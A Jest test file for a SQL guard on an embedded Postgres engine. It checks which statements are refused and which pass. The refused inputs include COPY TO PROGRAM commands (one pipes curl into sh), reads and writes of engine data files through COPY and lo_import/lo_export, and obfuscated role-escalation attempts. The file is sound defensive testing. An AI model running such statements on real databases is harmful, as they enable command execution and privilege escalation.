import { embeddedRefusal } from './embedded-sql-guard.util';

describe('embeddedRefusal: statements the embedded engine cannot survive (every login)', () => {
  it.each([
    "COPY (SELECT 1) TO PROGRAM 'id'",
    "copy t from program 'curl x | sh'",
    "COPY (SELECT 'x from y') TO '/pglite/data/PG_VERSION'",
    "COPY t FROM E'/pglite/data/global/pg_control'",
    "COPY t TO U&'/pglite/data/x'",
    'SELECT 1; /* hidden */ COPY t TO PROGRAM $$id$$',
    "ALTER SYSTEM SET work_mem = '1MB'",
    "SELECT lo_import('/pglite/data/PG_VERSION')",
    'select "lo_export"(1, \'/pglite/data/x\')',
  ])('refuses %s', (sql) => {
    expect(embeddedRefusal(sql, false)).toEqual(expect.any(String));
  });

  it.each([
    'COPY t TO STDOUT',
    'COPY t (a, b) FROM STDIN WITH (FORMAT csv)',
    "COPY (SELECT 'to program' FROM t) TO STDOUT",
    "SELECT 'COPY t TO PROGRAM ''id''' AS text",
    '-- COPY t TO PROGRAM x\nSELECT 1',
    "INSERT INTO t VALUES ($1, 'alter system')",
    'SELECT pg_advisory_xact_lock(1)',
  ])('lets %s through', (sql) => {
    expect(embeddedRefusal(sql, false)).toBeNull();
  });
});

describe('embeddedRefusal: the confined reader login', () => {
  it.each([
    'SET SESSION AUTHORIZATION postgres',
    'RESET SESSION AUTHORIZATION',
    'SET session_authorization = postgres',
    'SET ROLE postgres',
    'RESET ROLE',
    "SELECT set_config('session_authorization', 'postgres', false)",
    "SELECT set_config('session_' || 'authorization', 'postgres', false)",
    "SELECT set_config($1, 'x', false)",
    "SELECT set_config(E'statement_timeout', '1', true)",
    "SELECT \"set_config\"('role', 'postgres', false)",
    'SELECT U&"set\\005fconfig"(1)',
    'SELECT 1; SELECT 2',
    'CREATE TABLE x (n int)',
    'DO $$BEGIN PERFORM 1; END$$',
    'COPY t TO STDOUT',
    'PREPARE p AS SELECT 1',
    "SELECT 'unterminated",
  ])('refuses %s', (sql) => {
    expect(embeddedRefusal(sql, true)).toEqual(expect.any(String));
  });

  it.each([
    'BEGIN TRANSACTION ISOLATION LEVEL REPEATABLE READ READ ONLY',
    "SELECT set_config('statement_timeout', $1, true) IS NOT NULL AND set_config('lock_timeout', $2, true) IS NOT NULL",
    "SELECT pg_has_role(session_user, 'pg_read_server_files', 'USAGE')",
    'SELECT name FROM audit.services WHERE name = $1',
    'WITH s AS (SELECT 1) SELECT * FROM s',
    'SET LOCAL statement_timeout = 1000',
    'RESET ALL',
    'ROLLBACK',
    'DISCARD ALL',
    'SHOW search_path',
  ])('lets %s through', (sql) => {
    expect(embeddedRefusal(sql, true)).toBeNull();
  });
});
